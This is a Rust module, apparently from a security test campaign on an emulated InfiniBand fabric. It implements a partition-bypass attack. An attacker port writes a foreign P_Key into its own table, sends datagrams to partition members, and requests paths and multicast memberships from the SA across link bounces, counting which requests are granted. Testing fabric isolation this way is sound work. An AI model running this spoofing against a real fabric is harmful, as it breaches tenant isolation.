//! Attack 7: a P_Key that is not the host's own, in its own table, in datagrams to members of the partition, and in requests to
//! the SA; while the fabric is quiet, and while the manager writes the tables of the attacker's link.

use rand::RngExt;
use weft_emulator::io::Control;
use weft_fabric::Guid;
use weft_wire::Layout;
use weft_wire::header::{MadHeader, class, method, status};
use weft_wire::id::PKey;
use weft_wire::packet::Packet;
use weft_wire::sa::{McMemberRecord, PathRecord, attribute as attributes};
use weft_wire::sm::AttributeId;
use weft_wire::sm::modifier::PKeyModifier;
use weft_wire::smp::Smp;

use super::bystanders::PARTITION;
use super::sa_flood::group;
use super::site::{STEP, Site};
use crate::campaign::bring_up::RunError;
use crate::campaign::programs::{CREATE, Port};

/// Datagrams to bystanders before and after each time that the link trains.
const DATAGRAMS: u32 = 200;
/// Times that the link trains.
const BOUNCES: u32 = 3;
/// DGID, SGID and P_Key of a PathRecord.
const IN_PARTITION: u64 = 1 << 2 | 1 << 3 | 1 << 13;
/// Speaks to members of the bystanders' partition as if it were one.
pub(super) fn attack(site: &mut Site) -> Result<Option<String>, RunError> {
    site.received.clear();
    site.note(format!(
        "sends datagrams with P_Key {:#06x} and asks for paths and groups with it",
        PARTITION.0
    ));
    speak(site)?;
    for _ in 0..BOUNCES {
        site.note("bounces its link and writes its own partition table");
        site.bounce()?;
        speak(site)?;
    }
    Ok(granted(&site.received))
}

/// A datagram at each step, and a request; the attacker's own table has the key each time.
fn speak(site: &mut Site) -> Result<(), RunError> {
    for number in 0..DATAGRAMS {
        write_own_table(site)?;
        let hosts = &site.bystanders.hosts;
        let to = hosts[site.rng.random_range(0..hosts.len())];
        let (node, port) = site.attacker.port;
        site.cluster.control(Control::UsePKey {
            node,
            port,
            to: to.0,
            p_key: PARTITION.0,
            count: 1,
        })?;
        match number % 2 {
            0 => ask_for_path(site, to)?,
            _ => ask_for_group(site)?,
        }
        site.pass(STEP)?;
    }
    Ok(())
}

/// Root writes what he likes to his own port, whose M_Key he reads from it.
fn write_own_table(site: &mut Site) -> Result<(), RunError> {
    let modifier = PKeyModifier {
        count: 1,
        ..PKeyModifier::default()
    };
    let mut table = [0; 64];
    let keys = [PKey::MGMT_LIMITED, PKey(0x8001), PARTITION];
    for (place, key) in table.chunks_exact_mut(2).zip(keys) {
        place.copy_from_slice(&key.0.to_be_bytes());
    }
    let set = Smp::set(
        AttributeId::P_KEY_TABLE,
        modifier.bits(),
        1,
        site.own_m_key(),
    );
    site.send_smp(set, &[], &table)
}

fn ask_for_path(site: &mut Site, to: Port) -> Result<(), RunError> {
    let programs = &site.bystanders.programs;
    let record = PathRecord {
        sgid: programs.gid(site.attacker.port),
        dgid: programs.gid(to),
        p_key: PARTITION,
        numb_path: 1,
        ..PathRecord::default()
    };
    let what = (method::GET, attributes::PATH_RECORD, IN_PARTITION);
    Ok(site.send_to_sa(what, &record.to_bytes())?)
}

fn ask_for_group(site: &mut Site) -> Result<(), RunError> {
    let record = McMemberRecord {
        p_key: PARTITION,
        ..group(site, Guid(7))
    };
    let what = (method::SET, attributes::MC_MEMBER_RECORD, CREATE);
    Ok(site.send_to_sa(what, &record.to_bytes())?)
}

/// Requests to the SA that were granted.
fn granted(received: &[Packet]) -> Option<String> {
    let headers = received
        .iter()
        .filter_map(|packet| MadHeader::decode(&packet.mad).ok());
    let answers = headers.filter(|mad| mad.mgmt_class == class::SUBN_ADM);
    let granted = answers.filter(|mad| mad.status == status::OK).count();
    (granted > 0).then(|| format!("{granted} paths or memberships in the partition"))
}
